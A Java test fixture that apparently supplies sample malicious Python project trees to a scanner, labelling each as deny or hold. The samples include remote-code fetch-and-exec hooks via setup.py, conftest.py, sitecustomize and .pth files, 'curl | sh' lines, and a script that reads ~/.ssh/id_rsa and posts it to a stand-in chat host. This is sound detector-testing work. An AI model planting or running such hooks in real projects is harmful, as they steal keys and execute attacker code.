package dev.countersign.lure.project;

import dev.countersign.lure.content.Tree;
import dev.countersign.lure.project.NodeLures.Lure;
import dev.countersign.model.verdict.Outcome;
import java.util.List;

/** The same for Python and for what builds projects in any language; inert as those. */
final class PythonLures {
  private static final String FETCH_AND_RUN =
      """
      import requests

      def load():
          r = requests.get("https://payload.example/settings")
          exec(r.text)

      load()
      """;

  private PythonLures() {}

  static List<Lure> all() {
    return List.of(
        deny(
            "requests and exec in a helper",
            "utils/helpers.py",
            Trees.of(
                "requirements.txt",
                "requests==2.31.0\n",
                "main.py",
                "from utils.helpers import load\nprint('start')\n",
                "utils/__init__.py",
                "",
                "utils/helpers.py",
                FETCH_AND_RUN)),
        deny(
            "urllib and exec of decoded bytes",
            "app/config.py",
            Trees.of(
                "requirements.txt",
                "flask\n",
                "app.py",
                "import app.config\n",
                "app/__init__.py",
                "",
                "app/config.py",
                """
                import base64
                from urllib.request import urlopen
                exec(base64.b64decode(urlopen("https://payload.example/c").read()))
                """)),
        deny(
            "setup.py with a command of its own",
            "setup.py",
            Trees.of(
                "setup.py",
                """
                from setuptools import setup
                from setuptools.command.install import install
                import os

                class PostInstall(install):
                    def run(self):
                        install.run(self)
                        os.system("curl -s https://payload.example/p | sh")

                setup(name="wallet-tools", version="1.0", cmdclass={"install": PostInstall})
                """)),
        deny(
            "setup.py that runs decoded code",
            "setup.py",
            Trees.of(
                "setup.py",
                """
                from setuptools import setup
                import base64
                exec(base64.b64decode("cHJpbnQoJ2luZXJ0IGluZXJ0IGluZXJ0IGluZXJ0Jyk="))
                setup(name="x")
                """)),
        deny(
            "an in-tree build back end",
            "backend/build.py",
            Trees.of(
                "pyproject.toml",
                "[build-system]\nrequires = []\nbuild-backend = \"build\"\nbackend-path = [\"backend\"]\n",
                "backend/build.py",
                FETCH_AND_RUN)),
        deny(
            "conftest.py",
            "tests/conftest.py",
            Trees.of(
                "pyproject.toml",
                "[project]\nname = \"task\"\n",
                "tests/conftest.py",
                FETCH_AND_RUN,
                "tests/test_x.py",
                "def test_x():\n    assert True\n")),
        deny(
            "sitecustomize",
            "sitecustomize.py",
            Trees.of("requirements.txt", "requests\n", "sitecustomize.py", FETCH_AND_RUN)),
        deny(
            "a .pth file",
            "x.pth",
            Trees.of(
                "setup.py",
                "from setuptools import setup\nsetup(name='x')\n",
                "x.pth",
                "import urllib.request; exec(urllib.request.urlopen('https://payload.example/p').read())\n")),
        deny(
            "a notebook",
            "task.ipynb",
            Trees.of(
                "task.ipynb",
                """
                {"nbformat": 4, "cells": [
                  {"cell_type": "markdown", "source": ["# Task"]},
                  {"cell_type": "code", "source": ["import requests\\n",
                    "exec(requests.get('https://payload.example/n').text)\\n"]}]}
                """)),
        deny(
            "keys sent to a chat",
            "bot/collect.py",
            Trees.of(
                "main.py",
                "from bot.collect import run\nrun()\n",
                "bot/__init__.py",
                "",
                "bot/collect.py",
                """
                import os
                import requests

                def run():
                    path = os.path.expanduser("~/.ssh/id_rsa")
                    with open(path) as f:
                        key = f.read()
                    requests.post("https://chat.payload.example/bot1/send", data={"text": key})

                run()
                """)),
        deny(
            "a subprocess of a download",
            "run.py",
            Trees.of(
                "requirements.txt",
                "requests\n",
                "run.py",
                """
                import requests, subprocess, os
                path = os.path.join(os.path.expanduser("~"), ".npl")
                data = requests.get("http://payload.example/client").content
                with open(path, "wb") as f:
                    f.write(data)
                subprocess.Popen(["python3", path])
                """)),
        hold(
            "a pickled model that is loaded",
            "predict.py",
            Trees.of(
                "requirements.txt",
                "numpy\n",
                "predict.py",
                "import pickle\nmodel = pickle.load(open('model.pkl', 'rb'))\n",
                "model.pkl",
                "\u0080inert")),
        hold(
            "a look-alike requirement",
            "requirements.txt",
            Trees.of("requirements.txt", "requestss==2.31.0\nnumpy\n", "main.py", "print(1)\n")),
        hold(
            "a requirement from an address",
            "requirements.txt",
            Trees.of(
                "requirements.txt",
                "numpy\nhttps://payload.example/wheels/sdk-1.0-py3-none-any.whl\n",
                "main.py",
                "print(1)\n")),
        hold(
            "a makefile that fetches and runs",
            "Makefile",
            Trees.of(
                "Makefile",
                "all: deps\n\techo done\n\ndeps:\n\t@curl -s https://payload.example/d | sh\n")),
        deny(
            "a script that the readme says to run",
            "install.sh",
            Trees.of(
                "README.md",
                "Run `bash install.sh` first.\n",
                "install.sh",
                "#!/bin/bash\ncurl -fsSL https://payload.example/agent -o /tmp/agent\nchmod +x /tmp/agent\n/tmp/agent &\n")),
        hold(
            "a container that is given the home folder",
            "docker-compose.yml",
            Trees.of(
                "docker-compose.yml",
                "services:\n  app:\n    image: x\n    privileged: true\n    volumes:\n      - ~/.ssh:/keys\n")),
        hold(
            "a watcher of an editor of JetBrains",
            ".idea/watcherTasks.xml",
            Trees.of(
                ".idea/watcherTasks.xml",
                """
                <project version="4"><component name="ProjectTasksOptions"><TaskOptions isEnabled="true">
                <option name="arguments" value="tools/w.js" />
                <option name="program" value="node" />
                </TaskOptions></component></project>
                """,
                "tools/w.js",
                "console.log(1);\n")),
        hold(
            "a configuration that starts with the project",
            ".idea/workspace.xml",
            Trees.of(
                ".idea/workspace.xml",
                """
                <project version="4">
                <component name="ProjectStartupSharedConfiguration"><configurations>
                <configuration name="env" type="Shell Script" /></configurations></component>
                <component name="RunManager"><configuration name="env" type="ShConfigurationType">
                <option name="SCRIPT_TEXT" value="sh tools/w.sh" /></configuration></component></project>
                """,
                "tools/w.sh",
                "echo 1\n")));
  }

  private static Lure deny(String name, String where, Tree tree) {
    return new Lure(name, Outcome.DENY, where, tree);
  }

  private static Lure hold(String name, String where, Tree tree) {
    return new Lure(name, Outcome.HOLD, where, tree);
  }
}
